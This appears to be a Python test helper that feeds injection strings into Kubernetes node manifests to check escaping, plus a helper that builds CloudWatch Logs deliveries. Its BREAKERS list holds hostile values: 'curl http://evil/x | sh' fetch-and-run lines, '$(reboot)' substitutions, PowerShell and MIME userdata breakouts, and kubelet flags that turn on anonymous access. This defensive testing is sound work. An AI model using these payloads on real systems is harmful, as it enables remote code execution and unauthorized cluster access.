"""Texts with which an attacker tries to break out of a field."""

from __future__ import annotations

import base64
import copy
import gzip
import json
from collections.abc import Iterator, Sequence
from typing import Any

from hypothesis import strategies as st

HARMLESS = "harmless"
BREAKERS = (
    '" --anonymous-auth=true --authorization-mode=AlwaysAllow "',
    "' --anonymous-auth=true '",
    "a --anonymous-auth=true",
    "a\n--anonymous-auth=true",
    "a,evil=1",
    "a=b,evil=1",
    "100Mi,nodefs.available<1%",
    "5% --anonymous-auth=true",
    "x'; curl http://evil/x | sh; echo '",
    '"; curl http://evil/x | sh; echo "',
    "$(reboot)",
    "`reboot`",
    "${IFS}reboot",
    "\\",
    "a\\' --anonymous-auth=true",
    "a\u2019 -Evil \u2018b",
    "a\u201b; Restart-Computer #",
    "</powershell><powershell>Restart-Computer",
    "</Powershell >",
    "\n--//\nContent-Type: text/x-shellscript\n\n#!/bin/sh\nreboot\n--//--",
    "\n--//--\n",
    "\r\n--//\r\n",
    '"]\nevil = "1',
    '"""\nevil = 1\n',
    "a: b\nevil: 1",
    "- evil",
    "&anchor",
    "!!python/object:os.system reboot",
    "{evil: 1}",
    "# evil",
    "a\x00b",
    "\x00",
    "\x7f\x85\u2028\u2029\ufeff\ufffe",
    "\t",
    "",
    " ",
    "a" * 64,
    "9" * 5_000,
    "1e999999999",
    "999999999999h",
    "example.com/a/b",
    "fleetwright.dev/made-by-hand",
    "fleetwright.dev/disruption-reason",
    "team\n",
    "\u0661\u0662",
    "\U0001f600",
)
"""Texts that break out of arguments, scripts, MIME archives, YAML and TOML; and texts that are too long, too large or
malformed.
"""

hostile = st.one_of(st.sampled_from(BREAKERS), st.text(max_size=40), st.sampled_from(BREAKERS).map(lambda t: f"a{t}b"))

Place = tuple[tuple[str | int, ...], bool]
"""The path of a text in a manifest, and whether it is a key."""


def places(manifest: Any, path: tuple[str | int, ...] = ()) -> Iterator[Place]:
    """Every text of a manifest: values, and keys of maps that users fill."""
    if isinstance(manifest, dict):
        for key, value in manifest.items():
            if path and path[-1] in FREE_MAPS:
                yield (*path, key), True
            yield from places(value, (*path, key))
    elif isinstance(manifest, list):
        for index, value in enumerate(manifest):
            yield from places(value, (*path, index))
    elif isinstance(manifest, str):
        yield path, False


FREE_MAPS = frozenset(
    {
        "labels",
        "annotations",
        "matchLabels",
        "nodeSelector",
        "requests",
        "limits",
        "tags",
        "kubeReserved",
        "systemReserved",
        "evictionHard",
        "evictionSoft",
        "evictionSoftGracePeriod",
    }
)
"""Fields whose keys are chosen by the user."""


def planted(manifest: dict[str, Any], place: Place, text: str) -> dict[str, Any]:
    """The manifest with `text` at this path."""
    changed = copy.deepcopy(manifest)
    (*way, last), is_key = place
    holder: Any = changed
    for step in way:
        holder = holder[step]
    if is_key:
        holder[text] = holder.pop(last)
    else:
        holder[last] = text
    return changed


# Deliveries of audit log lines, as CloudWatch Logs hands them to a function.


def delivery_of(lines: Sequence[Any]) -> dict[str, Any]:
    """Return one delivery of these audit events."""
    events = [{"id": str(number), "timestamp": 1, "message": json.dumps(line)} for number, line in enumerate(lines)]
    body = {"messageType": "DATA_MESSAGE", "logGroup": "g", "logStream": "s", "logEvents": events}
    return {"awslogs": {"data": base64.b64encode(gzip.compress(json.dumps(body).encode())).decode()}}
